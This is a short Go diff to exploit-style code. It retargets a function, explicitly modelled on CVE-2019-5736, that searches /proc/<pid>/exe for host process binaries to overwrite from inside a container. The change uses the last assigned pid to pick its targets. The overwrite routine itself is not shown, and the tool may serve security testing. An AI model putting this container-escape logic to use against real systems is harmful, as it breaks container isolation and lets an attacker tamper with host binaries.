@@ -15,15 +15,24 @@ import (
 // overwrites each that is not of the container: the way of CVE-2019-5736. It
 // returns what it has reached.
 func overwrite() string {
-	var reached []string
 	for range 100 {
-		for pid := 1; pid < 12; pid++ {
+		last := lastPid()
+		for _, pid := range []int{1, 2, 3, last - 1, last, last + 1, last + 2} {
 			if name := reach("/proc/" + strconv.Itoa(pid) + "/exe"); name != "" {
-				reached = append(reached, name+"\n")
+				return name + "\n"
 			}
 		}
 	}
-	return strings.Join(reached, "")
+	return ""
+}
+
+// lastPid is the process id that was given last in this namespace
+// (proc_loadavg(5)).
+func lastPid() int {
+	data, _ := os.ReadFile("/proc/loadavg")
+	fields := strings.Fields(string(data))
+	last, _ := strconv.Atoi(fields[len(fields)-1])
+	return last
 }
 
 // watch is overwrite without an end; it writes what it reaches at once.
